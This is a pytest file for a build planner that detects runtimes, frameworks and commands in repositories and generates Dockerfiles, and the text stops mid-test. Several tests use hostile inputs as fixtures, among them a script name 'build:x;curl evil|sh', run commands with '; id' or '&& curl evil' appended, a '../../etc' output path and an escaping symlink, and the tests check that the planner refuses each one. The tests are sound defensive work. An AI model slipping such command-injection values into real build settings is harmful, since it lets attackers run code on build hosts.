"""Runtime, framework, package manager, version and command detection from repository files.

Layouts follow the Go original's acceptance vectors where we support them, and its detection
defects are tested as fixed. Repositories are written
with tmp_path; nothing is built or executed.
"""

import json
import os
import subprocess

import pytest

from builds import errors
from builds.dockerfile import check_build_config, plan_build
from builds.errors import UserError


def write(root, files: dict) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, dict):
            content = json.dumps(content)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def plan(root, files: dict | None = None, config: dict | None = None, app: str = ""):
    write(root, files or {})
    return plan_build(root / app, {"isAutoBuild": True, **(config or {})}, repo_root=root)


def refusal(root, files: dict | None = None, config: dict | None = None, app: str = "") -> UserError:
    with pytest.raises(UserError) as caught:
        plan(root, files, config, app)
    return caught.value


# --- Node ----------------------------------------------------------------------------------------

def test_node_server_with_lockfile_installs_with_npm_ci(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "webpack", "start": "node dist/server.js"}},
                        "package-lock.json": "{}"})
    assert (p.runtime, p.package_manager, p.version) == ("node", "npm", "26")
    assert (p.install_command, p.build_command, p.run_command) == ("npm ci", "npm run build", "npm start")
    assert p.expose_port == 3000


def test_pnpm_project_with_only_a_serve_script_runs_it(tmp_path):
    p = plan(tmp_path, {"package.json": {"packageManager": "pnpm@9.0.0", "scripts": {"serve": "node server.js"}},
                        "server.js": ""})
    assert p.package_manager == "pnpm"
    assert p.install_command == "pnpm install"
    assert p.build_command is None
    assert p.run_command == "npm run serve"  # pnpm is not in the run image; npm runs the same script


def test_server_js_without_scripts_is_started_with_node(tmp_path):
    p = plan(tmp_path, {"package.json": {"name": "x", "scripts": {}}, "server.js": ""})
    assert p.run_command == "node server.js"
    assert p.build_command is None


def test_a_project_with_only_a_dev_script_has_nothing_to_build(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"dev": "vite dev"}}})
    assert err.code == errors.NOTHING_TO_BUILD


def test_vite_without_a_build_script_is_refused(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"dev": "vite"}, "devDependencies": {"vite": "5"}},
                             "index.html": ""})
    assert err.code == errors.NOTHING_TO_BUILD and "build script" in err.message


def test_start_prod_script_is_the_start_command(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"start:prod": "node dist/main.js"}}, "package-lock.json": "{}"})
    assert p.install_command == "npm ci"
    assert p.run_command == "npm run start:prod"


def test_vite_app_is_served_as_static_files(tmp_path):
    p = plan(tmp_path, {
        "package.json": {"scripts": {"dev": "vite", "build": "vite build", "preview": "vite preview"},
                         "dependencies": {"react": "18"}, "devDependencies": {"vite": "5"}},
        "package-lock.json": "{}", "vite.config.ts": "export default {}", "index.html": "<div id=root>",
    })
    assert (p.runtime, p.framework) == ("node", "vite")
    assert p.build_command == "npm run build"
    assert p.run_command is None
    assert p.expose_port == 8080
    assert p.base_image == "nginx:1.28-bookworm"
    assert "COPY --from=build /app/dist/ /srv/www/" in p.dockerfile


def test_vite_out_dir_comes_from_the_config_or_the_build_script(tmp_path):
    vite = {"devDependencies": {"vite": "5"}}
    a = plan(tmp_path / "a", {"package.json": {**vite, "scripts": {"build": "vite build"}}, "index.html": "",
                              "vite.config.ts": "export default { build: { outDir: 'build-output' } }"})
    b = plan(tmp_path / "b", {"package.json": {**vite, "scripts": {"build": "vite build --outDir web-dist"}},
                              "index.html": ""})
    assert "COPY --from=build /app/build-output/ /srv/www/" in a.dockerfile
    assert "COPY --from=build /app/web-dist/ /srv/www/" in b.dockerfile


def test_a_hostile_out_dir_falls_back_to_dist(tmp_path):
    p = plan(tmp_path, {"package.json": {"devDependencies": {"vite": "5"}, "scripts": {"build": "vite build"}},
                        "index.html": "", "vite.config.js": "export default { build: { outDir: '../../etc' } }"})
    assert "COPY --from=build /app/dist/ /srv/www/" in p.dockerfile


def test_vite_with_express_but_only_a_preview_script_is_still_static(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build", "preview": "vite preview"},
                                         "dependencies": {"express": "4"}, "devDependencies": {"vite": "5"}},
                        "index.html": ""})
    assert p.run_command is None and p.framework == "vite"


def test_vite_app_with_a_real_server_start_script_runs_the_server(tmp_path):
    """Facts 13.22: the Go original forced these to static files."""
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build", "start": "node server.js"},
                                         "dependencies": {"express": "4"}, "devDependencies": {"vite": "5"}},
                        "index.html": "", "server.js": "app.listen(process.env.PORT || 5000)"})
    assert (p.runtime, p.run_command, p.build_command) == ("node", "npm start", "npm run build")
    assert p.expose_port == 5000
    assert p.base_image == "node:26-bookworm-slim"


def test_astro_app_with_a_server_start_script_runs_the_server(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "astro build", "start": "node server.js"},
                                         "dependencies": {"astro": "4"}}, "server.js": ""})
    assert p.run_command == "npm start"


def test_astro_static_site_is_served_as_static_files(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "astro build", "dev": "astro dev"},
                                         "dependencies": {"astro": "4"}}})
    assert p.run_command is None and "COPY --from=build /app/dist/ /srv/www/" in p.dockerfile


def test_create_react_app_serves_the_build_directory(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "react-scripts start", "build": "react-scripts build"},
                                         "dependencies": {"react-scripts": "5"}}, "public/index.html": ""})
    assert p.framework == "cra" and p.run_command is None
    assert "COPY --from=build /app/build/ /srv/www/" in p.dockerfile


def test_angular_output_path_comes_from_angular_json(tmp_path):
    angular = {"projects": {"shop": {"architect": {"build": {
        "builder": "@angular-devkit/build-angular:application", "options": {"outputPath": "dist/shop"}}}}}}
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "ng build", "start": "ng serve"},
                                         "dependencies": {"@angular/core": "18"}}, "angular.json": angular})
    assert p.framework == "angular"
    assert "COPY --from=build /app/dist/shop/browser/ /srv/www/" in p.dockerfile


def test_prisma_client_is_generated_before_the_build(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "tsc", "start": "node dist/index.js"},
                                         "dependencies": {"@prisma/client": "5"}, "devDependencies": {"prisma": "5"}},
                        "prisma/schema.prisma": "datasource db {}"})
    lines = p.dockerfile.splitlines()
    assert lines.index("RUN npx prisma generate") < lines.index("RUN npm run build")


def test_next_port_comes_from_the_start_script(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "next build", "start": "next start --port 4100"},
                                         "dependencies": {"next": "14", "react": "18"}}})
    assert p.framework == "next"
    assert p.expose_port == 4100
    assert "EXPOSE 4100" in p.dockerfile and "PORT=4100" in p.dockerfile


def test_pnpm_workspace_app_builds_from_the_repository_root(tmp_path):
    p = plan(tmp_path, {
        "package.json": {"private": True, "workspaces": ["apps/*"], "packageManager": "pnpm@9.0.0"},
        "pnpm-workspace.yaml": "packages: ['apps/*']", "pnpm-lock.yaml": "lockfileVersion: '9.0'",
        "apps/web/package.json": {"scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}},
        "apps/web/index.html": "",
    }, app="apps/web")
    assert p.context_dir == "."
    assert p.install_command == "pnpm install --frozen-lockfile"
    assert p.build_command == "pnpm run build"
    assert "npm install -g --prefix /opt/pm pnpm@9.0.0" in p.dockerfile
    assert "WORKDIR /app/apps/web" in p.dockerfile
    assert "COPY --from=build /app/apps/web/dist/ /srv/www/" in p.dockerfile


def test_a_subdirectory_app_outside_a_workspace_uses_its_own_directory_as_context(tmp_path):
    p = plan(tmp_path, {"services/api/package.json": {"scripts": {"start": "node index.js"}},
                        "services/api/index.js": "", "README.md": ""}, app="services/api")
    assert p.context_dir == "services/api"
    assert "WORKDIR /app\n" in p.dockerfile


def test_yarn_lockfiles_install_frozen_and_berry_installs_immutable(tmp_path):
    classic = plan(tmp_path / "a", {"package.json": {"scripts": {"start": "node a.js"}}, "yarn.lock": ""})
    berry = plan(tmp_path / "b", {"package.json": {"packageManager": "yarn@4.1.0", "scripts": {"start": "node a.js"}},
                                  "yarn.lock": "", ".yarnrc.yml": ""})
    assert classic.install_command == "yarn install --frozen-lockfile"
    assert berry.install_command == "yarn install --immutable"


def test_bun_lockb_is_a_bun_project(tmp_path):
    """Facts 13.22: the Go original only knew bun.lock."""
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "bun run server.ts"}}, "bun.lockb": b"\x00bun",
                        "server.ts": ""})
    assert (p.runtime, p.package_manager, p.version) == ("bun", "bun", "1.4")
    assert p.install_command == "bun install --frozen-lockfile"
    assert p.run_command == "bun run start"
    assert p.base_image == "oven/bun:1.4-slim"


def test_a_node_app_with_a_requirements_txt_is_still_node(tmp_path):
    """Facts 13.22: any requirements.txt used to make a repository Python."""
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "node index.js"}}, "index.js": "",
                        "requirements.txt": "requests\n"})
    assert p.runtime == "node"


def test_sveltekit_adapter_auto_is_built_with_adapter_node(tmp_path):
    """Facts 13.22: the Go original refused adapter-auto, SvelteKit's default."""
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build", "dev": "vite dev"},
                                         "devDependencies": {"@sveltejs/kit": "2", "@sveltejs/adapter-auto": "3"}},
                        "svelte.config.js": "import adapter from '@sveltejs/adapter-auto';"})
    assert p.framework == "sveltekit"
    assert p.run_command == "node build"
    assert "ENV GCP_BUILDPACKS=1" in p.dockerfile
    assert any("adapter-auto" in w for w in p.warnings)


def test_sveltekit_with_a_platform_adapter_is_refused_with_advice(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"build": "vite build"},
                                              "devDependencies": {"@sveltejs/kit": "2", "@sveltejs/adapter-vercel": "5"}},
                             "svelte.config.js": "import adapter from '@sveltejs/adapter-vercel';"})
    assert err.code == errors.NOTHING_TO_BUILD and "adapter-node" in err.message


def test_sveltekit_adapter_static_is_served_as_files(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build"},
                                         "devDependencies": {"@sveltejs/kit": "2", "@sveltejs/adapter-static": "3"}},
                        "svelte.config.js": "import adapter from '@sveltejs/adapter-static';"})
    assert p.run_command is None and "COPY --from=build /app/build/ /srv/www/" in p.dockerfile


@pytest.mark.parametrize("files, version", [
    ({".nvmrc": "20.11.1\n"}, "20"),
    ({".nvmrc": "v18\n"}, "18"),
    ({".nvmrc": "lts/iron\n"}, "20"),
    ({".node-version": "24"}, "24"),
    ({".tool-versions": "python 3.12.1\nnodejs 20.10.0\n"}, "20"),
    ({}, "26"),
])
def test_node_version_comes_from_version_files(tmp_path, files, version):
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}, **files})
    assert p.version == version
    assert f"FROM node:{version}-bookworm-slim AS build" in p.dockerfile


@pytest.mark.parametrize("engines, version", [(">=18", "26"), ("^20.1.0", "20"), ("18.x || 20.x", "20"),
                                              (">=18 <21", "20"), ("~24.0.0", "24")])
def test_node_engines_range_picks_the_default_or_the_newest_that_fits(tmp_path, engines, version):
    p = plan(tmp_path, {"package.json": {"engines": {"node": engines}, "scripts": {"start": "node a.js"}}})
    assert p.version == version


def test_an_unsupported_node_version_is_refused_naming_its_file(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}, ".nvmrc": "16"})
    assert err.code == errors.UNSUPPORTED_RUNTIME
    assert ".nvmrc" in err.message and "16" in err.message


def test_a_broken_package_json_is_a_clear_error(tmp_path):
    err = refusal(tmp_path, {"package.json": '{"name": "x", '})
    assert err.code == errors.NOTHING_TO_BUILD
    assert "package.json is not valid JSON" in err.message


def test_a_broken_package_json_beside_a_real_python_app_is_ignored(tmp_path):
    p = plan(tmp_path, {"package.json": "{oops", "requirements.txt": "flask\ngunicorn\n",
                        "app.py": "from flask import Flask\napp = Flask(__name__)\n"})
    assert p.runtime == "python"
    assert any("package.json is not valid JSON" in w for w in p.warnings)


def test_a_hostile_script_name_never_reaches_the_dockerfile(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"build:x;curl evil|sh": "x", "start": "node a.js"}}})
    assert err.code == errors.COMMAND_NOT_ALLOWED
    assert "detected build command" in err.message


# --- Python --------------------------------------------------------------------------------------

DJANGO = {
    "requirements.txt": "Django==5.0\ngunicorn\nwhitenoise\n",
    "manage.py": "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'config.settings')\n",
    "config/__init__.py": "", "config/wsgi.py": "from django.core.wsgi import get_wsgi_application\n",
    "config/asgi.py": "", "config/settings.py": "STATIC_ROOT = BASE_DIR / 'staticfiles'\n",
}


def test_django_is_served_by_gunicorn(tmp_path):
    p = plan(tmp_path, DJANGO)
    assert (p.runtime, p.framework, p.package_manager) == ("python", "django", "pip")
    assert p.install_command == "pip install -r requirements.txt"
    assert p.run_command == "gunicorn config.wsgi:application --bind 0.0.0.0:${PORT:-8000}"
    assert p.build_command == "python manage.py collectstatic --noinput"
    assert p.expose_port == 8000


def test_a_collectstatic_that_finds_no_static_root_is_a_warning_not_a_failure(tmp_path):
    """Render's Django template sets STATIC_ROOT only on Render: its collectstatic fails
    (ImproperlyConfigured) anywhere else, and the app still serves. The generated step prints
    the warning marker then, and fails for any other error of collectstatic."""
    dockerfile = plan(tmp_path, DJANGO).dockerfile
    (step,) = [line for line in dockerfile.splitlines() if "collectstatic" in line]
    assert "grep -q STATIC_ROOT" in step and "|| exit $status" in step
    assert "hubfly-%s collectstatic skipped" in step and "hubfly-warning" not in step
    script = step.removeprefix("RUN ")
    for output, code, expected in (("ImproperlyConfigured: ... STATIC_ROOT setting", 1, 0), ("SyntaxError", 1, 1),
                                   ("0 static files copied", 0, 0)):
        fake = script.replace("python manage.py collectstatic --noinput", f"sh -c 'echo {output}; exit {code}'")
        result = subprocess.run(["sh", "-c", fake], capture_output=True, text=True)
        assert result.returncode == expected, (output, result.stdout, result.stderr)
        assert ("hubfly-warning: collectstatic skipped" in result.stdout) == (code != 0 and expected == 0)


def test_django_without_gunicorn_gets_it_installed_with_a_warning(tmp_path):
    p = plan(tmp_path, {**DJANGO, "requirements.txt": "Django==5.0\n"})
    assert p.install_command == "pip install -r requirements.txt && pip install gunicorn"
    assert p.build_command is None  # no whitenoise: static files are not the app's to serve
    assert any("gunicorn" in w for w in p.warnings)


def test_django_channels_is_served_by_uvicorn(tmp_path):
    p = plan(tmp_path, {**DJANGO, "requirements.txt": "Django\nchannels\nuvicorn\n"})
    assert p.run_command == "uvicorn config.asgi:application --host 0.0.0.0 --port ${PORT:-8000}"


def test_a_django_app_with_a_tailwind_package_json_is_python(tmp_path):
    p = plan(tmp_path, {**DJANGO, "package.json": {"scripts": {"build": "tailwindcss -o static/app.css"},
                                                   "devDependencies": {"tailwindcss": "3"}}})
    assert p.runtime == "python"


def test_fastapi_app_variable_name_is_used(tmp_path):
    p = plan(tmp_path, {"pyproject.toml": '[project]\nname = "svc"\ndependencies = ["fastapi", "uvicorn"]\n',
                        "main.py": "from fastapi import FastAPI\n\napi = FastAPI()\n"})
    assert p.framework == "fastapi"
    assert p.install_command == "pip install ."
    assert p.run_command == "uvicorn main:api --host 0.0.0.0 --port ${PORT:-8000}"


def test_fastapi_in_a_package_directory_is_found(tmp_path):
    p = plan(tmp_path, {"requirements.txt": "fastapi[standard]\n", "app/__init__.py": "",
                        "app/main.py": "from fastapi import FastAPI\napp = FastAPI(title='x')\n"})
    assert p.run_command == "uvicorn app.main:app --host 0.0.0.0 --port ${PORT:-8000}"
    assert p.install_command == "pip install -r requirements.txt"  # fastapi[standard] brings uvicorn


def test_flask_is_served_by_gunicorn(tmp_path):
    p = plan(tmp_path, {"requirements.txt": "flask\ngunicorn\n", "main.py": "from flask import Flask\napp = Flask(__name__)\n"})
    assert (p.framework, p.run_command) == ("flask", "gunicorn main:app --bind 0.0.0.0:${PORT:-8000}")


@pytest.mark.parametrize("framework, label", [("Starlette", "starlette"), ("Quart", "quart"), ("Sanic", "sanic"),
                                              ("Litestar", "litestar")])
def test_other_asgi_frameworks_are_served_by_uvicorn(tmp_path, framework, label):
    p = plan(tmp_path, {"requirements.txt": f"{label}\nuvicorn\n", "main.py": f"app = {framework}()\n"})
    assert (p.framework, p.run_command) == (label, "uvicorn main:app --host 0.0.0.0 --port ${PORT:-8000}")


def test_poetry_project_installs_with_poetry(tmp_path):
    p = plan(tmp_path, {"pyproject.toml": '[tool.poetry]\nname = "x"\n[tool.poetry.dependencies]\npython = "^3.11"\n'
                                          'flask = "*"\ngunicorn = "*"\n',
                        "poetry.lock": "", "app.py": "from flask import Flask\napp = Flask(__name__)\n"})
    assert p.package_manager == "poetry"
    assert p.install_command == "pip install poetry && poetry install --only main --no-interaction --no-root"
    assert p.version == "3.14"


def test_uv_project_installs_with_uv(tmp_path):
    p = plan(tmp_path, {"pyproject.toml": '[project]\nname = "x"\nrequires-python = ">=3.11"\ndependencies = ["flask"]\n',
                        "uv.lock": "", "main.py": "print('hi')\n"})
    assert p.package_manager == "uv"
    assert p.install_command == "pip install uv && uv sync --locked --no-dev --no-install-project"


def test_requirements_in_alone_is_a_python_project(tmp_path):
    """Facts 13.22: the Go original did not recognise requirements.in."""
    p = plan(tmp_path, {"requirements.in": "requests\n", "app.py": "print('hi')\n"})
    assert (p.runtime, p.install_command, p.run_command) == ("python", "pip install -r requirements.in", "python app.py")


def test_a_package_with_main_runs_as_a_module(tmp_path):
    p = plan(tmp_path, {"pyproject.toml": '[project]\nname = "myapp"\n', "myapp/__init__.py": "",
                        "myapp/__main__.py": "print(1)\n"})
    assert p.run_command == "python -m myapp"


def test_pipfile_project_installs_with_pipenv(tmp_path):
    p = plan(tmp_path, {"Pipfile": '[packages]\nrequests = "*"\n[requires]\npython_version = "3.11"\n',
                        "Pipfile.lock": "{}", "app.py": "print(1)\n"})
    assert p.install_command == "pip install pipenv && pipenv install --deploy --system"
    assert (p.run_command, p.version) == ("python app.py", "3.11")


def test_bare_wsgi_and_asgi_modules_are_served(tmp_path):
    wsgi = plan(tmp_path / "a", {"requirements.txt": "gunicorn\n", "wsgi.py": "application = make()\n"})
    asgi = plan(tmp_path / "b", {"requirements.txt": "uvicorn\n", "asgi.py": "application = make()\n"})
    assert wsgi.run_command == "gunicorn wsgi:application --bind 0.0.0.0:${PORT:-8000}"
    assert asgi.run_command == "uvicorn asgi:application --host 0.0.0.0 --port ${PORT:-8000}"


@pytest.mark.parametrize("files, version", [
    ({".python-version": "3.11.4\n"}, "3.11"),
    ({"runtime.txt": "python-3.10.12"}, "3.10"),
    ({"pyproject.toml": '[project]\nname="x"\nrequires-python = ">=3.9,<3.12"\n'}, "3.11"),
    ({"pyproject.toml": '[project]\nname="x"\nrequires-python = "~=3.13.0"\n'}, "3.13"),
    ({}, "3.14"),
])
def test_python_version_comes_from_version_files(tmp_path, files, version):
    p = plan(tmp_path, {"requirements.txt": "", "main.py": "", **files})
    assert p.version == version
    assert f"FROM python:{version}-bookworm AS build" in p.dockerfile
    assert f"FROM python:{version}-slim-bookworm\n" in p.dockerfile


def test_a_python_app_with_no_entry_point_is_refused(tmp_path):
    err = refusal(tmp_path, {"requirements.txt": "requests\n", "lib/util.py": ""})
    assert err.code == errors.NOTHING_TO_BUILD and "runCommand" in err.message


# --- Go, static and the rest ---------------------------------------------------------------------

def test_go_module_with_a_root_main_package(tmp_path):
    p = plan(tmp_path, {"go.mod": "module example.com/app\n\ngo 1.22\n", "main.go": "package main\n\nfunc main() {}\n"})
    assert (p.runtime, p.version) == ("go", "1.27")
    assert (p.install_command, p.build_command, p.run_command) == ("go mod download", "go build -o app .", "./app")
    assert p.expose_port == 8080


@pytest.mark.parametrize("path, package", [("cmd/api/main.go", "./cmd/api"), ("server/main.go", "./server"),
                                           ("services/api/main.go", "./services/api")])
def test_go_main_package_is_found_in_subdirectories(tmp_path, path, package):
    p = plan(tmp_path, {"go.mod": "module example.com/app\n\ngo 1.23\n", path: "package main\n\nfunc main() {\n}\n",
                        "internal/x/x.go": "package x\n"})
    assert p.build_command == f"go build -o app {package}"


def test_gin_is_recognised(tmp_path):
    p = plan(tmp_path, {"go.mod": "module x\n\ngo 1.23\n\nrequire github.com/gin-gonic/gin v1.9.1\n", "go.sum": "",
                        "main.go": "package main\nfunc main() {}\n"})
    assert (p.framework, p.version) == ("gin", "1.27")


def test_a_go_module_needing_a_newer_go_than_configured_is_refused(tmp_path):
    err = refusal(tmp_path, {"go.mod": "module x\n\ngo 1.99\n", "main.go": "package main\nfunc main() {}\n"})
    assert err.code == errors.UNSUPPORTED_RUNTIME and "go.mod" in err.message


def test_a_go_library_has_nothing_to_run(tmp_path):
    err = refusal(tmp_path, {"go.mod": "module x\n\ngo 1.22\n", "lib.go": "package x\n"})
    assert err.code == errors.NOTHING_TO_BUILD


def test_index_html_alone_is_a_static_site(tmp_path):
    p = plan(tmp_path, {"index.html": "<h1>hi</h1>", "style.css": ""})
    assert (p.runtime, p.framework, p.run_command, p.expose_port) == ("static", "static-site", None, 8080)


def test_rust_axum_binary_and_port(tmp_path):
    p = plan(tmp_path, {"Cargo.toml": '[package]\nname = "hello-world"\nversion = "0.1.0"\n[dependencies]\naxum = "0.7"\n',
                        "Cargo.lock": "", "src/main.rs": 'let addr = "0.0.0.0:3000";'})
    assert (p.runtime, p.framework, p.expose_port, p.run_command) == ("rust", "axum", 3000, "./app")
    assert "cp target/release/hello-world /app/app" in p.dockerfile


def test_rust_default_run_names_the_binary(tmp_path):
    p = plan(tmp_path, {"Cargo.toml": '[package]\nname = "x"\ndefault-run = "api-server"\n', "src/main.rs": ""})
    assert "target/release/api-server" in p.dockerfile


def test_dotnet_web_project(tmp_path):
    p = plan(tmp_path, {"App.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup>'
                                      "<TargetFramework>net9.0</TargetFramework></PropertyGroup></Project>",
                        "Program.cs": ""})
    assert (p.runtime, p.framework, p.version, p.run_command) == ("dotnet", "aspnet-core", "9.0", "dotnet App.dll")


def test_maven_spring_boot_project(tmp_path):
    p = plan(tmp_path, {"pom.xml": "<project><parent>org.springframework.boot</parent>"
                                   "<properties><java.version>17</java.version></properties></project>"})
    # java.version is a language level: the default line (the newest LTS) builds it.
    assert (p.runtime, p.framework, p.version) == ("java", "spring-boot", "25")
    assert (p.build_command, p.run_command) == ("mvn -B -DskipTests package", "java -jar app.jar")


def test_gradle_wrapper_project(tmp_path):
    p = plan(tmp_path, {"build.gradle": "java { toolchain { languageVersion = JavaLanguageVersion.of(17) } }",
                        "gradlew": "#!/bin/sh"})
    assert (p.package_manager, p.version, p.build_command) == ("gradle", "17", "./gradlew build -x test")


def test_laravel_with_a_vite_package_json_is_php_and_builds(tmp_path):
    """Facts 13.22: Laravel web apps always failed in the Go original."""
    p = plan(tmp_path, {"composer.json": {"require": {"php": "^8.2", "laravel/framework": "^11", "ext-intl": "*"}},
                        "composer.lock": "{}", "artisan": "", "public/index.php": "",
                        "package.json": {"scripts": {"build": "vite build", "dev": "vite"},
                                         "devDependencies": {"vite": "5", "laravel-vite-plugin": "1"}}})
    assert (p.runtime, p.framework, p.run_command) == ("php", "laravel", "apache2-foreground")
    assert "docker-php-ext-install -j$(nproc) intl opcache" in p.dockerfile
    assert "s!/var/www/html!/app/public!g" in p.dockerfile


@pytest.mark.parametrize("entry, docroot", [("public/index.php", "public"), ("web/index.php", "web")])
def test_a_slim_app_is_served_from_the_directory_of_its_index_php(tmp_path, entry, docroot):
    """Heroku's PHP template is a Slim app whose front controller is web/index.php."""
    p = plan(tmp_path, {"composer.json": {"require": {"php": "^8.1", "slim/slim": "^4.0"}}, entry: "<?php"})
    assert (p.runtime, p.framework) == ("php", "slim")
    assert f"s!/var/www/html!/app/{docroot}!g" in p.dockerfile


def test_plain_index_php_is_a_php_site(tmp_path):
    p = plan(tmp_path, {"index.php": "<?php echo 'hi';"})
    assert (p.runtime, p.install_command, p.run_command) == ("php", None, "apache2-foreground")


def test_rails_app_runs_puma(tmp_path):
    p = plan(tmp_path, {"Gemfile": 'ruby "3.3.1"\ngem "rails"\ngem "pg"\n',
                        "Gemfile.lock": "", "config/application.rb": "", "config/puma.rb": ""})
    assert (p.runtime, p.framework, p.version) == ("ruby", "rails", "3.3")
    assert p.run_command == "bundle exec puma -C config/puma.rb"
    assert "libpq5" in p.dockerfile


# --- Explicit buildConfig ------------------------------------------------------------------------

def test_seed_readme_request_builds_a_react_app_with_its_commands(tmp_path):
    config = {"runtime": "node", "version": 18, "prebuildCommand": "npm install", "buildCommand": "npm run build",
              "runCommand": "npm start"}
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "react-scripts start", "build": "react-scripts build"},
                                         "dependencies": {"react-scripts": "5"}}}, config)
    assert (p.runtime, p.version, p.run_command, p.expose_port) == ("node", "18", "npm start", 3000)
    assert p.dockerfile.startswith("FROM node:18-bookworm-slim AS build\n")


def test_explicit_fields_override_detection(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "node a.js", "build": "tsc"}}, "package-lock.json": "{}"},
             {"buildCommand": "npm run build:prod", "exposePort": 9000, "version": "20"})
    assert (p.install_command, p.build_command, p.run_command) == ("npm ci", "npm run build:prod", "npm start")
    assert (p.expose_port, p.version) == (9000, "20")


def test_manual_config_generates_from_the_request_alone(tmp_path):
    write(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}, "package-lock.json": "{}"})
    p = plan_build(tmp_path, {"isAutoBuild": False, "runtime": "node", "prebuildCommand": "npm ci",
                              "buildCommand": "npm run build", "runCommand": "npm start"}, repo_root=tmp_path)
    assert (p.install_command, p.build_command, p.run_command, p.framework) == ("npm ci", "npm run build", "npm start", None)
    assert 'CMD ["npm", "start"]' in p.dockerfile


def test_manual_config_without_a_runtime_has_nothing_to_build(tmp_path):
    with pytest.raises(UserError) as caught:
        plan_build(tmp_path, {"isAutoBuild": False}, repo_root=tmp_path)
    assert caught.value.code == errors.NOTHING_TO_BUILD


def test_manual_static_runtime_ignores_a_submitted_run_command(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build", "preview": "vite preview"},
                                         "devDependencies": {"vite": "5"}}, "index.html": ""},
             {"runtime": "static", "runCommand": "npm run preview"})
    assert (p.runtime, p.run_command) == ("static", None)
    assert any("runCommand is ignored" in w for w in p.warnings)
    assert "npm run preview" not in p.dockerfile
    assert "FROM nginx:1.28-bookworm" in p.dockerfile


def test_a_submitted_run_command_turns_a_front_end_into_a_server(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"build": "vite build"}, "devDependencies": {"vite": "5"}},
                        "index.html": "", "server.js": ""}, {"runCommand": "node server.js"})
    assert (p.runtime, p.run_command, p.expose_port) == ("node", "node server.js", 3000)


def test_an_unknown_runtime_is_unsupported(tmp_path):
    assert refusal(tmp_path, {}, {"runtime": "cobol"}).code == errors.UNSUPPORTED_RUNTIME


def test_an_unknown_version_is_unsupported(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}}, {"runtime": "node", "version": "12"})
    assert err.code == errors.UNSUPPORTED_RUNTIME and "buildConfig.version" in err.message


def test_a_refused_submitted_command_fails_the_plan(tmp_path):
    err = refusal(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}}, {"runCommand": "node a.js; id"})
    assert err.code == errors.COMMAND_NOT_ALLOWED and "runCommand" in err.message


def test_runtime_names_have_aliases_and_any_case(tmp_path):
    p = plan(tmp_path, {"go.mod": "module x\n\ngo 1.22\n", "main.go": "package main\nfunc main() {}\n"},
             {"runtime": "Golang"})
    assert p.runtime == "go"


@pytest.mark.parametrize("config, code", [
    ({"runtime": "cobol"}, errors.UNSUPPORTED_RUNTIME),
    ({"runtime": "python", "version": "2.7"}, errors.UNSUPPORTED_RUNTIME),
    ({"runtime": "node", "runCommand": "node x.js && curl evil"}, errors.COMMAND_NOT_ALLOWED),
    ({"exposePort": 70000}, "INVALID_BUILD_CONFIG"),
    ({"runtime": ["node"]}, "INVALID_BUILD_CONFIG"),
])
def test_submit_time_check_refuses_what_the_request_names(config, code):
    with pytest.raises(UserError) as caught:
        check_build_config(config)
    assert caught.value.code == code


def test_submit_time_check_accepts_a_plain_request():
    check_build_config({"isAutoBuild": True, "runtime": "node", "version": "18", "prebuildCommand": "npm install",
                        "buildCommand": "npm run build", "runCommand": "npm start", "exposePort": 3000})
    check_build_config({"isAutoBuild": True})


# --- A hostile checkout --------------------------------------------------------------------------

def test_nothing_recognisable_is_nothing_to_build(tmp_path):
    err = refusal(tmp_path, {"README.md": "hello"})
    assert err.code == errors.NOTHING_TO_BUILD


def test_a_symlink_out_of_the_checkout_is_not_read(tmp_path):
    outside = tmp_path / "outside"
    write(outside, {"package.json": {"scripts": {"start": "node a.js"}}})
    repo = tmp_path / "repo"
    repo.mkdir()
    os.symlink(outside / "package.json", repo / "package.json")
    assert refusal(repo).code == errors.NOTHING_TO_BUILD


def test_a_working_dir_symlinked_out_of_the_checkout_is_refused(tmp_path):
    outside = tmp_path / "outside"
    write(outside, {"index.html": ""})
    repo = tmp_path / "repo"
    repo.mkdir()
    os.symlink(outside, repo / "app")
    with pytest.raises(UserError) as caught:
        plan_build(repo / "app", {"isAutoBuild": True}, repo_root=repo)
    assert caught.value.code == errors.WORKING_DIR_INVALID


def test_a_file_over_one_mebibyte_is_ignored_with_a_warning(tmp_path):
    p = plan(tmp_path, {"package.json": {"scripts": {"start": "node a.js"}}, ".nvmrc": "20\n" + "#" * (1024 * 1024)})
    assert p.version == "26"
    assert any(".nvmrc is larger than 1 MiB" in w for w in p.warnings)


def test_bad_encodings_and_broken_toml_do_not_crash_detection(tmp_path):
    p = plan(tmp_path, {"requirements.txt": b"flask\n\xff\xfe\x00garbage\ngunicorn\n", "pyproject.toml": "[project\nname=",
